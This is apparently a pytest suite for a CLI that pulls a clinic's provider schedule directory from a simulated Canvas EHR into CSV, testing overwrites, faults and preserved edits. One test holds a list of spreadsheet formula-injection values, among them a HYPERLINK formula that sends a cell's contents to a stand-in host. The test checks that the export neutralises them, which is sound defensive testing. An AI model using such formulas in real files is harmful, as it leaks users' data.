"""``gateway directory pull`` against a simulated Canvas, alive, failing, and gone."""

from __future__ import annotations

import csv
import http.client
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gateway.cli import pull
from gateway.core.directory import Directory

GRANITE = "Location.2-Staff.3640cd20de8a470aa570a852859ac87e"
HEADER = (
    "schedule,provider_id,provider_id_type,first_name,last_name,credentials,"
    "facility,department,location_id,room,timezone"
)
MORE = ",practitioner,phone,street,city,state,zip,country,alias,place"


@pytest.fixture
def canvas(start: Any) -> Iterator[int]:
    process = start("sandbox", "--port", "0")
    found = re.search(r":(\d+)$", process.stdout.readline())
    assert found is not None
    yield int(found[1])


@pytest.fixture
def config(configured: Any, canvas: int) -> Path:
    """A site of which no table speaks, so that all there is comes from the EHR."""
    path: Path = configured(upstream=canvas)
    path.write_text(path.read_text().replace("id: demo", "id: fresh"))
    return path


def test_a_draft_from_the_live_ehr(inside: Any, config: Path) -> None:
    done = inside("directory", "pull", "--config", config, "--site", "fresh", "--all")
    assert done.returncode == 0
    assert done.stdout.splitlines()[0] == HEADER + MORE
    lines = {line["schedule"]: line for line in csv.DictReader(done.stdout.splitlines())}
    assert len(lines) == 7
    assert [value for value in lines[GRANITE].values() if value][:8] == [
        *(GRANITE, "4356789876", "NPI", "Pat", "Granite", "MD"),
        *("RES General Hospital", "a04b44ec-c7df-4808-9043-e9c4b1d35202"),
    ]
    assert done.stderr.splitlines()[0].startswith(
        "Asking the EHR of site fresh: Schedule, Practitioner, Location"
    )
    assert "department: the EHR does not tell it for 7 of 7" in done.stderr
    assert "room: the EHR does not tell it for 7 of 7" in done.stderr


def test_into_a_file_that_is_not_overwritten_unasked(inside: Any, config: Path, tmp_path: Path) -> None:
    asked = ("directory", "pull", "--config", config, "--site", "fresh", "--output", "schedules.csv")
    assert inside(*asked).returncode == 0
    (tmp_path / "schedules.csv").write_text("mine")
    done = inside(*asked)
    assert (done.returncode, (tmp_path / "schedules.csv").read_text()) == (2, "mine")
    assert "schedules.csv exists" in done.stderr
    done = inside(*asked, "--force")
    assert (done.returncode, done.stdout) == (0, "")
    assert (tmp_path / "schedules.csv").read_text().startswith(HEADER)


def test_a_file_that_cannot_be_written_is_said_in_a_line(inside: Any, config: Path, tmp_path: Path) -> None:
    (tmp_path / "plain").write_text("x")
    for name in ("plain/schedules.csv", f"{'x' * 300}.csv", "plain/below/schedules.csv"):
        done = inside("directory", "pull", "-c", config, "-s", "fresh", "-o", name)
        assert (done.returncode, done.stdout) == (2, "")
        assert done.stderr.splitlines()[-1].startswith(f"error: cannot write {name}: ")
        assert "Traceback" not in done.stderr


def test_an_ehr_that_fails(inside: Any, config: Path, canvas: int) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", canvas)
    connection.request("POST", "/sandbox/faults", json.dumps({"location": {"kind": "status", "status": 500}}))
    assert connection.getresponse().status == 200
    connection.close()
    done = inside("directory", "pull", "--config", config, "--site", "fresh")
    assert (done.returncode, done.stdout) == (4, "")
    assert "Location: a part of the directory is missing" in done.stderr
    assert (
        "error: a part of the directory is missing, so no draft was written; the EHR of site fresh is at "
        f"http://127.0.0.1:{canvas} (tokens from http://127.0.0.1:{canvas}/auth/token/)" in done.stderr
    )


EMAIL = "over: directory\nrows:\n  - directory: email\n"


def test_what_a_person_wrote_into_the_file_is_kept(inside: Any, config: Path, tmp_path: Path) -> None:
    config.write_text("mappings: own\n" + config.read_text())
    site = tmp_path / "own" / "sites" / "fresh"
    site.mkdir(parents=True)
    (site / "directory.yaml").write_text(EMAIL)
    file = site / "schedules.csv"
    file.write_text(f"schedule,email,room\n{GRANITE},pat@clinic.example,136\nold-one,old@clinic.example,\n")
    done = inside("directory", "pull", "-c", config, "-s", "fresh", "--force", "--all", "-o", file)
    assert done.returncode == 0
    text = file.read_text()
    lines = {line["schedule"]: line for line in csv.DictReader(text.splitlines())}
    assert (lines[GRANITE]["email"], lines[GRANITE]["room"]) == ("pat@clinic.example", "136")
    assert lines[GRANITE]["practitioner"] == GRANITE.rpartition(".")[2]
    assert (list(lines)[-1], lines["old-one"]["email"]) == ("old-one", "old@clinic.example")
    assert done.stderr.splitlines()[-1] == (
        "schedules that the EHR does not list, kept at the end of the draft: 1; "
        "delete them if they are gone for good"
    )
    assert inside("check", "-c", config).returncode == 0
    assert inside("directory", "pull", "-c", config, "-s", "fresh", "--all").stdout == text


def test_what_the_ehr_tells_is_left_to_it_and_drift_is_told(
    inside: Any, config: Path, tmp_path: Path
) -> None:
    config.write_text("mappings: own\n" + config.read_text())
    file = tmp_path / "own" / "sites" / "fresh" / "schedules.csv"
    asked = ("directory", "pull", "-c", config, "-s", "fresh", "-o", file)
    assert inside(*asked).returncode == 0  # in a folder that it made
    [header, *lines] = file.read_text().splitlines()
    assert header == HEADER
    assert all(line.partition(",")[2] == "," * 9 for line in lines) and len(lines) == 7
    file.write_text(f"schedule,last_name,first_name,room\n{GRANITE},Granit,Pat,136\n")
    done = inside(*asked, "--force")
    lines_ = {line["schedule"]: line for line in csv.DictReader(file.read_text().splitlines())}
    assert {name: cell for name, cell in lines_[GRANITE].items() if cell} == {
        "schedule": GRANITE,
        "last_name": "Granit",
        "room": "136",
    }
    assert f'{GRANITE}: last_name is "Granit" in the file, "Granite" in the EHR' in done.stderr
    assert "first_name is" not in done.stderr


HOSTILE = {
    "first_name": '=HYPERLINK("http://x.example/?"&A1,"Pat")',
    "last_name": "'=Granite",
    "credentials": "＝1+1",
    "department": "'Connor; =1+1",
    "room": "-2",
    "phone": "+1 608 555 0100",
    "street": "@SUM(A1)",
    "city": "\t=1\u202e\r\nMadison",
}


def test_names_that_a_spreadsheet_would_run(
    inside: Any, configured: Any, monkeypatch: Any, tmp_path: Path
) -> None:
    async def asked(application: Any, _served: Any, _names: Any) -> Directory:
        await application.close()
        return Directory(({"schedule": "-1.2", **HOSTILE},))

    monkeypatch.setattr(pull, "_asked", asked)
    path = configured()
    path.write_text("mappings: own\n" + path.read_text().replace("id: demo", "id: fresh"))
    file = tmp_path / "own" / "sites" / "fresh" / "schedules.csv"
    file.parent.mkdir(parents=True)
    assert inside("directory", "pull", "-c", path, "-s", "fresh", "-o", file, "--all").returncode == 0
    [cells] = csv.DictReader(file.read_text("utf-8").splitlines())
    assert all(not cell or cell[0] not in "=+-@＝" for cell in cells.values())
    shown = inside("show", "table", "schedules", "-c", path, "-s", "fresh", "--json")
    [row] = json.loads(shown.stdout)["rows"]
    assert {name: value for name, value in row["values"].items() if value} == {
        **HOSTILE,
        "schedule": "-1.2",
        "city": "=1 Madison",
    }
    assert inside("check", "-c", path).returncode == 0
    first = file.read_text("utf-8")
    assert (
        inside("directory", "pull", "-c", path, "-s", "fresh", "-o", file, "--force", "--all").returncode == 0
    )
    assert file.read_text("utf-8") == first


def test_an_ehr_that_is_not_there(inside: Any, configured: Any) -> None:
    path = configured(upstream=9)
    path.write_text(path.read_text().replace("id: demo", "id: fresh"))
    done = inside("directory", "pull", "--config", path, "--site", "fresh")
    assert (done.returncode, done.stdout) == (4, "")
    assert done.stderr.splitlines()[1:] == [
        "error: This gateway got no access token for the scheduling system. Ask again shortly. "
        "The token endpoint could not be reached (nothing listens there).",
        "error: no draft was written; the EHR of site fresh is at http://127.0.0.1:9 "
        "(tokens from http://127.0.0.1:9/auth/token/)",
    ]


def test_no_such_site(inside: Any, configured: Any) -> None:
    done = inside("directory", "pull", "--config", configured(), "--site", "nowhere")
    assert (done.returncode, 'There is no site "nowhere"' in done.stderr) == (2, True)
